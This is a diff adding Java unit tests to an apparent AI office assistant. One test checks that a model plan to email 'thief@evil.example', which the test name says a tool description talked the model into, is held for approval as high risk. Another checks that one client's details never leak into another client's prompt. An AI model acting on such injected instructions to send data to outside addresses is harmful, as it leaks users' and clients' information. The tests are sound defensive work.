@@ -8,8 +8,13 @@ import static org.junit.jupiter.api.Assertions.assertEquals;
 import static org.junit.jupiter.api.Assertions.assertFalse;
 import static org.junit.jupiter.api.Assertions.assertTrue;
 
+import dev.factotum.llm.Prompt;
 import dev.factotum.llm.Purpose;
 import java.io.IOException;
+import java.nio.file.Path;
+import java.time.Duration;
+import java.util.List;
+import java.util.Locale;
 import java.util.Optional;
 import org.junit.jupiter.api.Test;
 
@@ -161,6 +166,67 @@ class ModelPlansTest {
             assertTrue(note.contains("boss@evil.example**. The model wrote it"), note);
             assertTrue(note.contains("https://evil.example/x**. The model wrote it"), note);
             assertTrue(note.contains("goes out beyond the thread"), note);
+        }
+    }
+
+    @Test
+    void whatTheDescriptionOfAToolTalksTheModelIntoIsHighRiskToo() throws IOException {
+        ScriptedModel model = ScriptedModel.planning(prompt -> plan(
+                "Tell them",
+                step("s1", "email.send", "to", "thief@evil.example", "subject", "Notes", "body", "Here they are.")));
+        try (Sam sam = new Sam(12, "", Optional.of(model))) {
+            sam.write("Inbox/Hours.md", "# Hours\n\nTell our customers that we close at 17:00.\n");
+            sam.work();
+            String note = sam.office().only("Pending_Approval").getValue();
+            assertTrue(note.contains("risk: high"), note);
+            assertTrue(note.contains("thief@evil.example**. The model wrote it"), note);
+        }
+    }
+
+    @Test
+    void whatOneClientToldUsNeverEntersThePromptOfAnother() throws IOException {
+        List<String> names = List.of("Acme", "Bakery", "Canal", "Dock", "Elm");
+        ScriptedModel model = ScriptedModel.planning(
+                prompt -> plan("Post", step("s1", "content.draft", "title", "Post", "text", "A draft.")));
+        try (Sam sam = new Sam(13, "", Optional.of(model))) {
+            for (String name : names) {
+                Path folder = Office.ROOT.resolve("Clients").resolve(name);
+                sam.person()
+                        .write(
+                                folder.resolve("Client.md"),
+                                "---\naccounts: { x: " + name.toLowerCase(Locale.ROOT) + "-x }\n---\n\n# " + name
+                                        + "\n\nVOICE-" + name + "\n");
+                sam.person()
+                        .write(
+                                folder.resolve("Contacts.md"),
+                                "# Contacts\n\n- CONTACT-" + name + " <" + name + "@people.example>\n");
+            }
+            sam.restart();
+            for (int i = 0; i < 40; i++) {
+                String name = names.get(i % names.size());
+                sam.person()
+                        .write(
+                                Office.ROOT.resolve("Inbox/Post " + i + ".md"),
+                                "---\nclient: " + name + "\n---\n\n# Post " + i + "\n\nFor OWNER-" + name + ".\n");
+            }
+            sam.office().wait(Duration.ofSeconds(40));
+            sam.work();
+            List<Prompt> asked = model.asked(Purpose.PLAN);
+            assertEquals(40, asked.size());
+            for (Prompt prompt : asked) {
+                String text = ScriptedModel.text(prompt);
+                String owner = names.stream()
+                        .filter(name -> text.contains("OWNER-" + name))
+                        .findFirst()
+                        .orElseThrow();
+                assertTrue(text.contains("VOICE-" + owner) && text.contains("CONTACT-" + owner), text);
+                for (String other : names) {
+                    boolean told = text.contains("VOICE-" + other)
+                            || text.contains("CONTACT-" + other)
+                            || text.contains(other.toLowerCase(Locale.ROOT) + "-x");
+                    assertTrue(other.equals(owner) || !told, () -> "of " + other + " in " + text);
+                }
+            }
         }
     }
 
